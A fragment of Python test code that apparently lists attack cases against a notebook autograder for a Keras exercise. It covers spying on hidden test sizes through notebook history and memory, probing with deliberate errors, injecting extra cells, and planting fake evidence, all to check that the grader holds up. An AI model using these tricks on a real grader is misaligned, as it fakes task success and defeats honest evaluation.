    ),
    # --- hidden sizes -------------------------------------------------------------------------
    Attack("sizes_by_history", make=with_extra("print(In[-4:], In, Out, _ih)", "%history", "Out")),
    Attack("sizes_by_memory", make=with_extra(WALK_MEMORY), saw="SAW True []"),
    Attack(
        "sizes_by_a_list",
        code=SPY,
        answers=(SPYING_TOWER, WRONG_NUMBER),
        make=with_extra(TELL),
        saw="SAW []",
    ),
    Attack(
        "sizes_by_an_error",
        code=SPY,
        answers=(SPY_AND_FAIL, WRONG_NUMBER),
        make=with_extra(TELL),
        saw="SAW []",
    ),
    Attack(
        "sizes_by_a_missing_name",  # an extra cell joins because of a hidden case: too late to show
        code=SPY,
        answers=(
            """
def build_tower(features=8, units=4):
    table = keras.Input((features,))
    if features != 8 and f"size_{features}" not in globals():
        raise NameError(f"name 'size_{features}' is not defined")
    name = "known" + "_".join(n for n in globals() if n.startswith("size_"))
    return keras.Model(table, layers.Dense(units, name=name)(table))
""",
            WRONG_NUMBER,
        ),
        make=with_extra("size_53077 = size_21011 = 1", at=1),
        remark="cannot run without an extra cell",
    ),
    # --- evidence without an answer -----------------------------------------------------------
    Attack("one_extra_cell", answers=None, make=replacing_checks),
    Attack("extra_cell_beside_wrong_answers", make=replacing_checks),
    Attack(
        "evidence_for_another_exercise",  # from an answer cell, for one that is as released
        answers=None,
        make=lambda notebook: {
            NAME: _only(
                notebook,
                "fort_ex2_answer",
                IN_THE_CLEAN_RUN + textwrap.indent(WRITE_EVERYWHERE, "    "),
            )
        },
        remark="Something else than",
    ),
    Attack("written_evidence", long=True, code=WRITE_EVERYWHERE, remark="Something else than"),
    Attack(
        "answer_in_an_extra_cell",  # an answer cell that is as released is not attempted
        answers=None,
        make=with_extra(RIGHT_TOWER, RIGHT_NUMBER),
        remark="as released",
    ),
    # --- right answers that change the world --------------------------------------------------
    *(
        Attack(
            f"right_{name}_{where}",
            answers=RIGHT,
            deserved=FULL,
            long=(turn + place) % 3 > 0,  # others: each in one place, and in each place four
            **options,
        )
        for turn, (name, code) in enumerate(DISTURBANCES.items())
        for place, (where, options) in enumerate(
            (
                ("in_an_answer", {"code": code}),
                ("before", {"make": with_extra(code, at=2)}),
                ("between", {"make": with_extra(code, at=4)}),
            )
        )
    ),
    Attack(
        "right_after_an_extra_cell",
        code="helper = double(2)",
        answers=(RIGHT_TOWER.replace("(units,", "(units * factor // helper,"), RIGHT_NUMBER),
        make=with_extra(
            "import math\ndef double(x): return int(math.sqrt(4)) * x", "factor = 4", at=2
        ),
        deserved=FULL,
        remark="cannot run without an extra cell of the student's, which defines `factor`",
    ),
]
